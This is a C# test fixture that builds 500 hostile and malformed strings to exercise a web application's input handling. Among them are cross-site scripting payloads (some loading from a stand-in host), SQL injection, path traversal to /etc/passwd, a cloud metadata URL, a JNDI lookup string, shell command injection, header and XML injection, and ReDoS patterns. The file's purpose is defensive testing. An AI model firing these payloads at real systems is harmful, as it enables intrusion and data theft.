using System.Globalization;
using System.Text;

namespace Interhelpo.Web.Tests.Hostile;

/// <summary>Five hundred texts that mean harm or that nobody thought of, made the same each time.</summary>
internal static class HostileTexts
{
    public const int Count = 500;

    /// <summary>What would run if a page let it; each is told by its number.</summary>
    private static readonly string[] scripts =
    [
        "<script>alert({0})</script>", "<ScRiPt src=//x.test/{0}></sCrIpT>", "<img src=x onerror=alert({0})>", "<svg/onload=alert({0})>", "<svg><script>alert({0})</script></svg>",
        "\"><script>alert({0})</script>", "' onmouseover='alert({0})", "\" autofocus onfocus=\"alert({0})", "</textarea><script>alert({0})</script>", "</title><script>alert({0})</script>",
        "--><script>alert({0})</script>", "]]><script>alert({0})</script>", "<iframe srcdoc='<script>alert({0})</script>'>", "<object data=javascript:alert({0})>", "<embed src=javascript:alert({0})>",
        "<a href=javascript:alert({0})>x</a>", "<a href=\" &#106;avascript:alert({0})\">x</a>", "<base href=//x.test/{0}/>", "<meta http-equiv=refresh content=0;url=//x.test/{0}>", "<form action=//x.test/{0}><button>x",
        "<math><mtext><script>alert({0})</script></mtext></math>", "<style>@import'//x.test/{0}'</style>", "<div style=background:url(//x.test/{0})>", "<details open ontoggle=alert({0})>", "<video><source onerror=alert({0})></video>",
        "[x](javascript:alert({0}))", "[x](JaVaScRiPt&colon;alert({0}))", "![x](data:text/html,<script>alert({0})</script>)", "[x]: javascript:alert({0})", "<javascript:alert({0})>",
        "{{onclick=alert({0})}}", "## x {{#main onclick=alert({0})}}", "[@\"><script>alert({0})</script>#char=0,5]", "{{{{constructor.constructor('alert({0})')()}}}}", "${{alert({0})}}",
        "\u00ADjavascript:alert({0})", "<scr\0ipt>alert({0})</script>", "＜script＞alert({0})＜/script＞", "%3Cscript%3Ealert({0})%3C/script%3E", "&lt;script&gt;alert({0})&lt;/script&gt;",
    ];

    private static readonly string[] injections =
    [
        "' OR '1'='1", "'; DROP TABLE Sources; --", "\" UNION SELECT * FROM AspNetUsers --", "1; ATTACH DATABASE '/tmp/x' AS y", "x') OR load_extension('x'", "\" OR Names:a* NEAR(b c, 0) NOT \"", "a AND", "NEAR(", "^^^***\"\"\"", "SearchText : *", "{Names Body} : x",
        "../../../../etc/passwd", "..\\..\\windows\\win.ini", "%2e%2e%2fetc%2fpasswd", "/proc/self/environ", "file:///etc/passwd", "http://169.254.169.254/latest/meta-data/", "//x.test/", "\\\\x.test\\share", "C:\\nul", "CON", "a/../b", "./", "~root",
        "x\r\nSet-Cookie: a=b", "x\nLocation: //x.test", "x%0d%0aX-Evil: 1", "Content-Length: 0\r\n\r\nGET / HTTP/1.1", "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>", "<?xml version='1.0' encoding='UTF-7'?>", "*)(uid=*))(|(uid=*", "$(id)", "`id`", "| cat /etc/passwd", "; sleep 30", "=cmd|' /C calc'!A0", "@SUM(1+1)", "+1-1",
        "{{7*7}}", "#{7*7}", "<%= 7*7 %>", "@{7*7}", "@Model.Secret", "%s%s%s%n", "{0}{1}{99}", "${jndi:ldap://x.test/a}", "__proto__", "{\"$gt\":\"\"}", "[object Object]", "undefined", "null", "true", "NaN", "Infinity", "-1", "0", "1e309", "9999999999999999999999", "-2147483649", "0x7fffffff", "1,5", "٣", "9999-99-99", "0000-00-00", "-4712-01-01", "10000000-01", "1923-13", "../1923/..", "1923~?%", "[1923..", "{1923", "Y-1e9", "31.2.1923", "32 May 1923",
        "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!", "(a+)+$", "((((((((((a*)*)*)*)*)*)*)*)*)*", "x x x x x x x x x x x x x x x x x x x x y", "doi:10." + "1/1/1/1/1/1/1/1/1/1/1/1/1/1/1/1", "@article{x, title={{{{{{", "TY  - JOUR\nER  - \nER  - ", "ISBN 978-0-00-000000-X-X-X",
    ];

    private static readonly string[] nested = ["(", "[", "{", "<", "„", "> ", "- ", "* ", "**", "_", "`", "~~", "#", "<div>", "<b>", "<table><tr><td>", "[x](", "![", "[@", "&", "|", "\\", "{{", "<!--", "\n> ", "\n\t", "a\n-\n", "1. "];

    private static readonly string[] odd =
    [
        "\uD800", "\uDFFF\uD800", "a\uD83D", "\uFFFE\uFFFF", "\uFEFFBOM", "\u202Eright to left\u202C", "\u2066x\u2069", "\u200B\u200C\u200D\u2060", "\u00AD", "\u0085\u2028\u2029", "e\u0301\u0301\u0301", "\uFDFA\uFDFA", "ﬀﬁﬂ", "İıſK", "Å\u212B", "𝕊𝕔𝕣𝕚𝕡𝕥", "👩‍👩‍👧‍👦", "\uE000\uF8FF", "\u0000", "a\u0000b", "\u001B[31mred\u001B[0m", "\u0007\u0008\u000B\u000C\u007F", "\u009B31m", "\t\t\t", " \u00A0\u2003\u3000", "ʹʺ", "٠١٢٣", "Ꙗко", "ЯяӨөҮүҢң", "漢字仮名", "ไม่มี", "हिन्दी", "𐍈𐌰", "ß ẞ ŉ ǰ ΐ", "Ǆǅǆ", "\u0130\u0307", "\u3164\uFFA0", "\uFFF9a\uFFFAb\uFFFB", "\U000E0001\U000E0020", "\u180E",
    ];

    public static IReadOnlyList<string> All { get; } = [.. Make().Distinct(StringComparer.Ordinal).Take(Count)];

    private static IEnumerable<string> Make()
    {
        var number = 1000;
        foreach (var script in scripts) yield return string.Format(CultureInfo.InvariantCulture, script, number++);
        foreach (var text in injections.Concat(odd)) yield return text;
        foreach (var opening in nested) yield return new StringBuilder().Insert(0, opening, 3000).ToString();
        for (var control = 0; control < 32; control++) yield return $"a{(char)control}b{(char)(control + 128)}c";
        foreach (var length in new[] { 255, 256, 257, 1023, 4096, 65535, 65536, 200_000 })
        {
            yield return new string('a', length);
            yield return string.Concat(Enumerable.Repeat("ö ", length / 2));
            yield return "z" + new string('\u0301', length);
            yield return string.Concat(Enumerable.Repeat("1923 ", length / 5));
        }

        // The same script behind everything that may lead a reader of it astray.
        foreach (var before in odd.Concat(injections).Concat(nested))
            yield return before + string.Format(CultureInfo.InvariantCulture, scripts[number % scripts.Length], number++);
        foreach (var (script, wrapping) in scripts.SelectMany(script => new[] { "*{0}*", "| {0} |\n|---|", "Novák, Jan. *{0}*. Praha: Orbis, 1931.", "In 1923 {0} came to Pishpek." }, (script, wrapping) => (script, wrapping)))
            yield return string.Format(CultureInfo.InvariantCulture, wrapping, string.Format(CultureInfo.InvariantCulture, script, number++));
    }
}
